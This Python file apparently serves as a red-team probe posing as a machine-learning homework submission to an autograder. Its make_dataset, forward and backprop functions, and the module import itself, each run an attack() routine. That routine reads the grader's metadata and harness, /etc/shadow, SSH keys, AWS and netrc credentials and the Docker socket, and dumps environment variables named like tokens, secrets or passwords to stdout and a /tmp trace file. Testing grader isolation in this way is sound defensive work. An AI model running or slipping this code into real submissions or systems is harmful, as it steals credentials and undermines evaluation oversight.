"""Reads the submission's metadata, the harness and its token, by path and from the environment."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE read-metadata:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-read-metadata", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

PLACES = ("/autograder/submission_metadata.json", "/autograder/harness.py", "/autograder/results/stdout", "/etc/shadow",
          "/root/.netrc", "/root/.aws/credentials", os.path.expanduser("~/.ssh/id_rsa"), "/var/run/docker.sock")


def attack():
    for place in PLACES:
        try:
            with open(place, "rb") as file:
                evidence(f"{place}: {file.read(80)!r}")
        except OSError:
            continue
    for name, value in os.environ.items():
        if any(word in name.upper() for word in ("TOKEN", "SECRET", "PASSWORD", "AUTOGRADER", "SUBMISSION", "KEY")):
            evidence(f"{name}={value}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
